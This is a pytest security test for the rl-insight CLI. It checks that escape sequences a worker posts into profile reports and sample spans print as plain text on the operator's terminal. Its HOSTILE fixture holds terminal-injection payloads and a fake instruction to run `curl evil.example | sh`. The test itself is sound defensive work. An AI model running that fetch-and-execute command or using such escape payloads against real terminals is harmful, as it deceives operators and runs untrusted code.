"""What a credential holder writes to the server reaches the operator's terminal only as text: a run
credential (what every Ray worker gets) posts a profile report and spans full of escape sequences
(window title, clear screen, coloured fake instructions, a forged line) through the real API on
loopback, and `rl-insight profile list` and `rl-insight samples` print none of them."""

import json
import re

import pytest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
from opentelemetry.proto.common.v1.common_pb2 import AnyValue, KeyValue
from opentelemetry.proto.trace.v1.trace_pb2 import ResourceSpans, ScopeSpans, Span

from tests.helpers import http, rl_insight
from tests.server.api.test_run_credentials import TOKEN, worker_credential
from verl_rl_insight.server.api.asgi import Api
from verl_rl_insight.server.api.http_server import HttpServer
from verl_rl_insight.server.api.parts import ApiParts, Startup
from verl_rl_insight.server.metrics.hub import MetricHub
from verl_rl_insight.server.stores.profiles import ProfileStore
from verl_rl_insight.server.stores.spans import SpanStore

HOSTILE = (
    "\x1b]0;rl-insight: all good\x07"  # sets the terminal's title
    "\x1b[2J\x1b[H"  # clears the screen
    "\x1b[1;31mSECURITY: run `curl evil.example | sh` to repair the server\x1b[0m"
    "\r\nfake-id  p/e  1  finished  -  /tmp/forged"  # a forged table row
    "\x9b2J\u202e"  # a one-byte CSI, a right-to-left override
)
# Anything a terminal obeys: C0 but newline, DEL, C1, bidirectional controls.
OBEYED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def server(tmp_path):
    def info():  # what the server app says when it keeps spans
        return {"spans_kept_by_hub": True}

    api = Api(
        ApiParts(
            MetricHub(),
            token=TOKEN,
            info=info,
            startup=Startup(spans=SpanStore(tmp_path / "spans")),
            profiles=ProfileStore(),
        )
    )
    http_server = HttpServer(api, "127.0.0.1", 0).start()
    yield f"http://127.0.0.1:{http_server.port}"
    http_server.stop()
    api.close()


def post(url, credential, body, kind="application/json"):
    status, answer = http("POST", url, body, {"Authorization": f"Bearer {credential}", "Content-Type": kind})
    assert status == 200, answer
    return json.loads(answer) if kind == "application/json" else answer


def operator(*args):
    """The operator's command, with the server's token, as it reaches the terminal."""
    done = rl_insight(*args, env={"RL_INSIGHT_TOKEN": TOKEN})
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def test_a_run_credentials_profile_report_reaches_profile_list_without_escape_codes(server):
    credential = worker_credential(server)
    asked = [
        post(
            server + "/api/v1/profiles",
            TOKEN,
            json.dumps({"project": "p", "experiment_name": "e", "first_step": s}).encode(),
        )
        for s in (5, 6)
    ]
    updates = [
        {"id": asked[0]["id"], "state": "running", "trace_dir": "/traces/" + HOSTILE, "steps": [5]},
        {"id": asked[1]["id"], "state": "refused", "detail": HOSTILE},
    ]
    report = {"project": "p", "experiment_name": "e", "updates": updates}
    assert post(server + "/api/v1/profiles/report", credential, json.dumps(report).encode()) == {"updated": 2}

    shown = operator("profile", "list", "--server", server)
    assert not OBEYED.findall(shown), repr(shown)
    lines = shown.splitlines()
    assert len(lines) == 3 and lines[0].startswith("id"), shown  # the header and the two requests: no forged row
    assert "\\x1b[2J" in shown and "SECURITY" in shown  # the hostile text is shown, as text
    assert sum(asked_id in shown for asked_id in (a["id"] for a in asked)) == 2


def sample_span(**attributes):
    def value(v):
        return AnyValue(**({"string_value": v} if isinstance(v, str) else {"double_value": float(v)}))

    attrs = {"project": "p", "experiment_name": "e", "state_lane_id": "samples", "verl.step": 3, **attributes}
    span = Span(
        trace_id=bytes(16 * [3]),
        span_id=bytes(8 * [7]),
        name="sample",
        start_time_unix_nano=1_000_000_000,
        end_time_unix_nano=2_000_000_000,
        attributes=[
            KeyValue(key=k, value=AnyValue(int_value=v) if k == "verl.step" else value(v)) for k, v in attrs.items()
        ],
    )
    request = ExportTraceServiceRequest(resource_spans=[ResourceSpans(scope_spans=[ScopeSpans(spans=[span])])])
    return request.SerializeToString()


def test_a_sample_whose_prompt_and_response_hold_escape_codes_is_printed_as_text(server):
    credential = worker_credential(server)
    body = sample_span(
        **{
            "sample.kind": "worst",
            "sample.rank": 0,
            "sample.score": 0.0,
            "sample.length": 12,
            "sample.finish_reason": "stop" + HOSTILE,
            "sample.data_source": "gsm8k" + HOSTILE,
            "sample.prompt": "What is 2+2?" + HOSTILE,
            "sample.response": HOSTILE + " 4",
        }
    )
    post(server + "/v1/traces", credential, body, "application/x-protobuf")

    shown = operator("samples", "--project", "p", "--experiment", "e", "--server", server)
    assert not OBEYED.findall(shown), repr(shown)
    assert "What is 2+2?" in shown and "\\x1b[1;31mSECURITY" in shown
    assert not [line for line in shown.splitlines() if line.startswith("fake-id")]  # no forged line
